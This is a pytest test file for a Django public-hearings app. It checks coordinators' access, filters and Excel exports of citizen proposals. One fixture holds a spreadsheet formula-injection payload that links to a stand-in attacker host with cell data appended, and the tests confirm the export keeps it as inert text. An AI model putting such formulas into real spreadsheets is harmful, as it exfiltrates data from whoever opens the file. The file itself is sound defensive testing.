"""The coordinators' view: the hearings of their projects' municipalities, filtered and counted, and
the Excel exports, which carry no contact, no hidden proposal and no live formula."""

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from hearings.models import Attendance, Hearing
from tests.factories import HearingFactory, ProposalFactory

pytestmark = pytest.mark.django_db


def ws(name: str, *args) -> str:
    with translation.override("ky"):
        return reverse(f"hearings_ws:{name}", args=args)


@pytest.fixture
def hearings(world):
    """A's closed hearing (with proposals, one of them hostile) and its draft; B's hearing."""
    closed = HearingFactory(
        municipality=world.municipality_a,
        status=Hearing.Status.CLOSED,
        starts_at=timezone.now() - timedelta(days=40),
        title="А айылынын бюджет угуусу",
    )
    Attendance.objects.create(hearing=closed, women=44, men=38)
    ProposalFactory(
        hearing=closed,
        number=1,
        text='=HYPERLINK("http://evil.example/"&A1,"Click")',
        contact="+996 700 123 456",
        author_name="Айгүл Токтосунова",
        name_may_be_published=False,
        disposition="rejected",
        answer="=1+1",
    )
    ProposalFactory(
        hearing=closed,
        number=2,
        text="Балдар аянтчасы",
        author_name="Бакыт",
        name_may_be_published=True,
        disposition="accepted",
    )
    ProposalFactory(hearing=closed, number=3, text="Жарнама: арзан телефондор", moderation="hidden")
    draft = HearingFactory(
        municipality=world.municipality_a, title="А айылынын тариф угуусу", kind="drinking_water_tariff"
    )
    other = HearingFactory(municipality=world.municipality_b, title="Б айылынын угуусу")
    return closed, draft, other


def test_only_coordinators_and_administrators_follow_hearings(client, world, hearings):
    for persona in ("staff_a", "head_a"):
        client.force_login(world.persona(persona))
        assert client.get(ws("follow")).status_code == 404
        assert client.get(ws("follow_export_proposals")).status_code == 404


def test_a_coordinator_sees_the_hearings_of_their_municipalities_with_counts(client, world, hearings):
    closed, draft, other = hearings
    client.force_login(world.coordinator_a)
    page = client.get(ws("follow")).content.decode()
    assert closed.title in page and draft.title in page and other.title not in page
    assert "44 / 38" in page
    summary = {item["code"]: item["count"] for item in client.get(ws("follow")).context["summary"]}
    assert (summary["closed"], summary["draft"], summary["announced"]) == (1, 1, 0)

    filtered = client.get(ws("follow"), {"kind": "drinking_water_tariff", "oblast": "junk"})
    rows = list(filtered.context["page"].object_list)
    assert rows == [draft]  # the invalid filter is dropped, the valid one applies
    by_status = client.get(ws("follow"), {"status": "closed"})
    assert list(by_status.context["page"].object_list) == [closed]


def test_another_projects_municipality_cannot_be_filtered_in(client, world, hearings):
    client.force_login(world.coordinator_a)
    response = client.get(ws("follow"), {"municipality": world.municipality_b.pk})
    titles = [h.title for h in response.context["page"].object_list]
    assert "Б айылынын угуусу" not in titles and len(titles) == 2


def test_the_exports_open_with_openpyxl_and_keep_text_as_text(client, world, hearings):
    client.force_login(world.coordinator_a)
    response = client.get(ws("follow_export_proposals"))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    values = [cell.value for cell in cells]
    assert '=HYPERLINK("http://evil.example/"&A1,"Click")' in values  # the text, as text
    assert "=1+1" in values
    assert "Балдар аянтчасы" in values and "Бакыт" in values  # a name with consent
    text = " ".join(str(v) for v in values if v is not None)
    assert "+996" not in text  # no contact
    assert "Айгүл" not in text  # no name without consent
    assert "Жарнама" not in text  # no hidden proposal
    assert "Б айылынын" not in text  # no other municipality

    hearings_file = client.get(ws("follow_export_hearings"), {"status": "closed"})
    rows = list(load_workbook(io.BytesIO(hearings_file.content)).active.iter_rows(values_only=True))
    assert len(rows) == 2  # the header and the closed hearing
    assert rows[1][3] == "А айылынын бюджет угуусу" and (rows[1][9], rows[1][10], rows[1][11]) == (44, 38, 82)


def test_an_administrator_follows_every_municipality(client, world, hearings):
    client.force_login(world.admin)
    page = client.get(ws("follow")).content.decode()
    assert all(h.title in page for h in hearings)
